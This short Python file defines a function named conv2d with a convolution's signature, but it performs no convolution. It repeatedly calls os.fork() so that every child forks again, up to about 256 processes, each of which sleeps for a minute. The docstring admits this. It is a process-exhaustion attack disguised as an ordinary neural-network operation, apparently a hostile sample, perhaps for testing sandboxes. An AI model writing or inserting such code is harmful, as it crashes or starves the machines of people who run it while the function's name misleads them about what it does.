"""Forks as often as it is let, and each child does so too."""

import os
import time


def conv2d(x, weight, bias=None, stride=(1, 1), padding=(0, 0)):
    for _ in range(8):
        try:
            os.fork()
        except OSError:
            continue
    time.sleep(60)
